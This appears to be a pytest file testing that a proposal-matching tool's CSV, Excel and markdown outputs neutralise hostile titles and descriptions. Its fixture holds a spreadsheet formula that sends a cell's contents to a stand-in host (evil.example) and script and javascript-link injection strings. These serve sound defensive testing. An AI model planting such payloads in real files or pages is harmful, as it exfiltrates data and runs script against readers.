"""Every output is safe for its reader (matchmaker/render/cells.py and the xlsx writer)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from matchmaker.render.cells import csv_cell, markdown_text

TODAY = ("--today", "2026-11-28")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE = f"""kind: proposal
id: hostile
region: 완주군
demands:
  - id: formula
    title: '{FORMULA.replace("'", "''")}'
    description: 공공급식 식재료를 서울 어린이집에 납품하고 싶습니다.
  - id: markup
    title: "<script>alert(1)</script> [x](javascript:alert(1)) **bold**\\n## 3. Fake — 99.9"
    description: |-
      서울 상설 매장이 필요합니다.
      ## 3. Fake project — 99.9
"""


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_a_csv_cell_that_could_run_is_text(text: str) -> None:
    assert csv_cell(text) == "'" + text


def test_other_csv_cells_are_as_written() -> None:
    assert csv_cell("완주군 = 좋다") == "완주군 = 좋다"
    assert csv_cell(42) == 42


def _unescaped(char: str, text: str) -> bool:
    return re.search(r"(?<!\\)" + re.escape(char), text) is not None


def test_markdown_text_opens_no_construct_and_no_line() -> None:
    shown = markdown_text("a\n## b <img src=x> [l](javascript:x) `c` *d*")
    assert "\n" not in shown
    for char in "<>[]`*":
        assert not _unescaped(char, shown), char


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.yaml"
    path.write_text(HOSTILE, encoding="utf-8")
    return path


def test_rank_csv_neutralises_a_formula_title(cli, hostile: Path) -> None:
    # The title is not a CSV column, but a project name or reason could start like one;
    # every text cell goes through the same rule.
    out = cli("rank", str(hostile), "--format", "csv", *TODAY).stdout.lstrip("\ufeff")
    for row in csv.reader(io.StringIO(out)):
        assert not any(cell.startswith(("=", "+", "@")) for cell in row)


def test_the_workbook_stores_a_formula_title_as_its_text(
    cli, hostile: Path, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    target = tmp_path / "r.xlsx"
    run = cli(
        "report", str(hostile), "--format", "xlsx", "--draws", "0", "--output", str(target), *TODAY
    )
    assert run.exit_code == 0, run.output
    book = load_workbook(target)
    cells = [
        c
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if c.value == FORMULA
    ]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not any(
        c.data_type == "f" for sheet in book.worksheets for row in sheet.iter_rows() for c in row
    )


def test_markdown_output_cannot_be_forged_by_a_title(cli, hostile: Path) -> None:
    out = cli("rank", str(hostile), "--format", "markdown", *TODAY).stdout
    assert "\\<script\\>" in out and not _unescaped("<script>", out)
    assert not _unescaped("](javascript:", out)
    assert not any(line.startswith("## 3. Fake") for line in out.splitlines())
